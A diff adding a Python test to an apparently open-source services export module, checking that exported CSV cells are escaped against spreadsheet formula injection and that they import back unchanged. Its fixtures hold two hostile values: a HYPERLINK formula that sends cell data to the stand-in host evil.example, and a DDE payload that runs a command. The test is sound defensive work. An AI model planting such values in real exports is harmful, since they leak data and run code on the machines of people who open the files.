@@ -328,6 +328,45 @@ def test_csv_package_export_round_trips(world, rich, tmp_path):
     assert not (tmp_path / "services.json").exists()
 
 
+def test_csv_package_cells_do_not_run_as_formulas_and_import_back_unchanged(world, rich):
+    """A partner edits its own services; the place team downloads the package and opens it in
+    a spreadsheet: a name typed as a formula must arrive as text (CSV injection). Phone numbers
+    and negative numbers stay as they are, and the import gives back what was typed."""
+    import csv
+    import io
+
+    from ..hsds.export import export_csv_package
+
+    a = world.a
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    make_service(
+        a.place,
+        rich["charity"],
+        name=formula,
+        description="@SUM(1+1)*cmd|' /C calc'!A0",
+        eligibility="-2+3",
+        phone="+44 20 7946 0002",
+    )
+    with place_scope(a.place):
+        before = export_place(a.place)
+        files = export_csv_package(a.place)
+    cells = [
+        cell for text in files.values() for row in csv.reader(io.StringIO(text)) for cell in row
+    ]
+    assert "'" + formula in cells
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'-2+3" in cells
+    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
+    assert "+44 20 7946 0002" in cells  # a phone number is no formula
+    with place_scope(a.place):
+        Service.objects.filter(place=a.place).delete()
+        Partnership.objects.filter(place=a.place).delete()
+        summary = apply_import(place=a.place, parsed=parse_csv_package(files), mode="nothing")
+        assert summary["imported"], summary["problems"]
+        after = export_place(a.place)
+        assert Service.objects.filter(place=a.place, name=formula).exists()
+    assert _without_modified(after) == _without_modified(before)
+
+
 def test_the_import_job_shows_its_progress_while_its_transaction_runs(world, monkeypatch):
     """Every import is one transaction; its steps are written outside it (`job_pulse`,
     locus/core/pulse.py) while it runs, so the person watching sees them, and the sweep counts
